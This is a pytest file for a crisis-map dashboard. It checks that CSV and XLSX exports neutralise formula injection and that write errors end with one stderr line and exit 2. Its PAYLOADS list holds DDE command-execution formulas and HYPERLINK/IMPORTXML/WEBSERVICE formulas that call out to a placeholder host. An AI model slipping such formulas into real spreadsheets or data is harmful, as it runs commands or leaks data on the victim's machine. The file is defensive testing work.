"""Exports are safe to open in a spreadsheet, and output faults are one line with exit 2.

- CSV and XLSX exports (CLI, page download, rejects report) neutralise text cells that begin with
  = + - @ TAB CR (OWASP "CSV injection": a single quote in front); numeric columns stay numbers.
- Import keeps a TAB/CR prefix in front of a formula, so `\\t=1+1` never becomes a live `=1+1`.
- `crisismap export -o X` with X = /dev/full, a folder, a missing folder, a read-only place: exit 2,
  one line on stderr naming the path and the cause, no traceback.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.cli import main
from dashboard.views.export import FORMULA_TRIGGERS, export_table, neutralise_cell

FIX = Path(__file__).parent / "fixtures" / "readers"
ROOT = Path(__file__).resolve().parents[1]

#: formula-injection payloads (OWASP and common DDE/HYPERLINK variants), 32 of them
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0", "@cmd|'/c calc'!A0", "=HYPERLINK(\"http://example.invalid/x\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"A\")",
    "=WEBSERVICE(\"http://example.invalid\")", "=1*cmd|' /C calc'!A0", "=A1", "=SUM(A1:A9)",
    "=IMAGE(\"http://example.invalid/p.png\")", "-=1", "+-1", "@=1", "\t\t=1", "\r\n=2+2", "=\"=1\"", "=CHAR(65)",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "-10+20", "=HYPERLINK(A1)", "\t+1", "\t@x", "\t-1+1", "=0x41",
]


def _payload_csv(tmp_path: Path) -> Path:
    """An ACLED-shaped file whose text fields carry the payloads (synthetic)."""
    raw = pd.read_csv(FIX / "acled_current.csv", dtype=str, keep_default_na=False)
    base = raw.iloc[0]
    rows = []
    for i, pay in enumerate(PAYLOADS):
        r = base.copy()
        r["event_id_cnty"] = f"SYN{i}"
        r["event_date"] = str((pd.Timestamp("2020-01-01") + pd.Timedelta(days=3 * i)).date())  # distinct events
        r["notes"] = pay
        r["actor1"] = pay
        r["location"] = pay
        r["source"] = pay
        rows.append(r)
    p = tmp_path / "synthetic_payloads.csv"
    pd.DataFrame(rows).to_csv(p, index=False, quoting=csv.QUOTE_ALL)  # quoted: some payloads hold a CR
    return p


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("safety")
    s = tmp / "events.gpkg"
    assert main(["import", str(_payload_csv(tmp)), "--store", str(s)]) == 0
    return s


def _raw_formula_cells(rows: list[list[object]], numeric: set[str]) -> list[tuple[str, object]]:
    """Cells a spreadsheet would run: text starting with a trigger (numbers in numeric columns are fine)."""
    header, body = rows[0], rows[1:]
    bad = []
    for row in body:
        for name, v in zip(header, row, strict=False):
            if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS):
                if name in numeric:
                    try:
                        float(v)
                        continue
                    except ValueError:
                        pass
                bad.append((name, v))
    return bad


NUMERIC = {"latitude", "longitude", "fatalities", "inter1", "inter2", "interaction", "geo_precision",
           "time_precision", "place_score", "geonameid", "civilian_targeting_flag"}


def test_import_keeps_hidden_formula_prefix(store):
    from dashboard.events.store import EventStore

    ev = EventStore(store).read()
    notes = set(ev["notes"])
    assert "\t=1+1" in notes and "=1+1" in notes
    assert sum(1 for n in notes if n == "=1+1") == 1  # the TAB one did not collapse into it
    assert len(ev) == len(PAYLOADS)


def test_cli_csv_export_has_no_raw_formula(store, tmp_path, capsys):
    out = tmp_path / "out.csv"
    assert main(["export", "--store", str(store), "--format", "csv", "-o", str(out)]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert _raw_formula_cells(rows, NUMERIC) == []
    header = rows[0]
    notes = {r[header.index("notes")] for r in rows[1:]}
    assert {"'" + p for p in PAYLOADS} <= notes  # neutralised, not dropped or altered otherwise
    lon = [r[header.index("longitude")] for r in rows[1:]]
    assert all(v.startswith("-") and float(v) < 0 for v in lon)  # negative numbers stay numbers


def test_cli_xlsx_export_has_no_formula_cells(store, tmp_path):
    out = tmp_path / "out.xlsx"
    assert main(["export", "--store", str(store), "--format", "xlsx", "-o", str(out)]) == 0
    wb = load_workbook(out)
    ws = wb["events"]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert _raw_formula_cells(rows, NUMERIC) == []
    header = rows[0]
    lon = [r[header.index("longitude")] for r in rows[1:]]
    assert all(isinstance(v, float) and v < 0 for v in lon)


def test_page_download_bytes_are_neutralised(store):
    from dashboard.events.store import EventStore

    ev = EventStore(store).read()
    rows = list(csv.reader(io.StringIO(export_table(ev, "csv").decode("utf-8"), newline="")))
    assert _raw_formula_cells(rows, NUMERIC) == []
    wb = load_workbook(io.BytesIO(export_table(ev, "xlsx")))
    assert not [c for row in wb.active.iter_rows() for c in row if c.data_type == "f"]


def test_rejects_report_is_neutralised(tmp_path):
    p = tmp_path / "bad.csv"
    raw = pd.read_csv(FIX / "acled_current.csv", dtype=str, keep_default_na=False).iloc[:1].copy()
    raw["event_date"] = "=1+1"
    raw.to_csv(p, index=False)
    report = tmp_path / "rejects.csv"
    assert main(["import", str(p), "--store", str(tmp_path / "s.gpkg"), "--rejects", str(report)]) == 0
    rows = list(csv.reader(report.open(encoding="utf-8", newline="")))
    assert rows[1][3].startswith("unparseable date")
    assert _raw_formula_cells(rows, set()) == []


def test_neutralise_cell():
    assert [neutralise_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert neutralise_cell(-8.07) == -8.07 and neutralise_cell("Kati") == "Kati" and neutralise_cell(None) is None


def _cli(*argv: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "dashboard", *argv], capture_output=True, text=True, env=env,
                          timeout=120, cwd=str(ROOT))


def _one_line_exit_2(proc: subprocess.CompletedProcess, path: str, cause: str) -> None:
    assert proc.returncode == 2, proc.stderr
    lines = [x for x in proc.stderr.splitlines() if x.strip()]
    assert len(lines) == 1, proc.stderr
    assert "Traceback" not in proc.stderr and path in lines[0] and cause in lines[0], lines[0]


def test_output_faults_are_one_line_exit_2(store, tmp_path):
    cases = [
        ("/dev/full", "csv", "no space left"),
        ("/dev/full", "png", "no space left"),
        ("/dev/full", "gpkg", "no space left"),
        (str(tmp_path), "csv", "is a folder"),
        (str(tmp_path / "missing" / "out.csv"), "csv", "does not exist"),
        (str(tmp_path / "file.txt" / "out.csv"), "geojson", "is a file, not a folder"),
        ("/sys/crisismap-out.csv", "csv", "/sys"),
    ]
    (tmp_path / "file.txt").write_text("x")
    for path, fmt, cause in cases:
        _one_line_exit_2(_cli("export", "--store", str(store), "--format", fmt, "-o", path), path, cause)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a chmod 555 folder; /sys covers read-only above")
def test_read_only_folder(store, tmp_path):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        _one_line_exit_2(_cli("export", "--store", str(store), "--format", "csv", "-o", str(ro / "x.csv")),
                         str(ro / "x.csv"), "read-only")
    finally:
        ro.chmod(0o755)


def test_rejects_report_fault_leaves_store_unchanged(tmp_path):
    store = tmp_path / "s.gpkg"
    proc = _cli("import", str(FIX / "acled_current.csv"), "--store", str(store), "--rejects", str(tmp_path))
    _one_line_exit_2(proc, str(tmp_path), "is a folder")
    assert not store.exists()


def test_page_table_has_no_raw_csv_export():
    """st.dataframe's built-in "Download as CSV" writes cells raw; `crisismap run` turns it off (the
    page's own CSV/XLSX buttons are the neutralised way out)."""
    import tomllib

    from dashboard.cli.app import streamlit_command

    assert "--client.disableDataExport=true" in streamlit_command(8501)
    conf = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert conf["client"]["disableDataExport"] is True
